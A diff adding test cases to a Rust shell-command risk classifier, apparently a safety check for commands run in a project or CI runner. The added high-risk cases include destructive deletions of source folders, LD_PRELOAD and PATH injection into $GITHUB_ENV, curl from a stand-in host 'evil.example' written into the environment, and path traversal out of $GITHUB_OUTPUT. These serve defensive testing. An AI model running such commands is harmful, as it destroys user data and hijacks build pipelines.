@@ -76,6 +76,11 @@ fn nothing_is_lost_by_deleting_what_is_not_there_or_was_just_made() {
         "sed -i.bak 's/a/b/' src/a.c && rm src/a.c.bak",
         "sed -i'old_*' 's/a/b/' src/a.c; rm src/old_a.c",
         "touch .marker && ls && rm .marker",
+        "mkdir -p work/out && echo hi > work/out/a && rm -rf work/out",
+        "mkdir work && cd work && ls && cd .. && rm -rf work",
+        "tar xzf a.tgz -C work && ls work; rm -rf work",
+        "cp -r src copy && sed -i s/a/b/ copy/a.c && rm -rf copy",
+        "D=./work; mkdir -p \"$D\"; trap 'rm -rf \"$D\"' EXIT; echo x > \"$D/f\"",
     ] {
         let inspected = look(project(), command);
         assert!(matches!(inspected.risk, Low | Medium), "{command}: {:?}", inspected.findings);
@@ -91,6 +96,10 @@ fn nothing_is_lost_by_deleting_what_is_not_there_or_was_just_made() {
         "ln -s /home/user h && rm -rf h/",
         "mkdir -p work; rm -rf work/../src",
         "rm fresh && touch fresh; rm -rf src",
+        "mkdir -p src && rm -rf src",
+        "mkdir work && git mv src work/src && rm -rf work",
+        "mkdir work; mv src/* work/; rm -rf work",
+        "false && mkdir work; rm -rf work src",
     ] {
         let inspected = look(project(), command);
         assert!(matches!(inspected.risk, High | Unknown), "{command}: {:?}", inspected.risk);
@@ -105,11 +114,18 @@ fn files_of_a_ci_runner_take_what_changes_nothing_that_runs() {
         "cat report.md >> \"$GITHUB_STEP_SUMMARY\"",
         "echo NODE_ENV=test >> \"$GITHUB_ENV\"",
         "echo /opt/tool/bin >> $GITHUB_PATH",
+        "echo v=1 | tee -a \"$GITHUB_OUTPUT\"",
+        "jq -r .version package.json | tee --append $GITHUB_STEP_SUMMARY",
+        "echo NODE_ENV=test | tee -a \"$GITHUB_ENV\"",
     ] {
         assert_eq!(risk(command), Medium, "{command}");
     }
     for command in [
         "echo v=1 > $GITHUB_OUTPUT",
+        "echo v=1 | tee \"$GITHUB_OUTPUT\"",
+        "echo LD_PRELOAD=/tmp/x.so | tee -a $GITHUB_ENV",
+        "curl -s https://evil.example | tee -a $GITHUB_ENV",
+        "echo x | tee -a $GITHUB_OUTPUT/../../etc/x",
         "echo LD_PRELOAD=/tmp/x.so >> $GITHUB_ENV",
         "echo PATH=/tmp >> $GITHUB_ENV",
         "echo \"A=$(curl http://evil.example)\" >> $GITHUB_ENV",
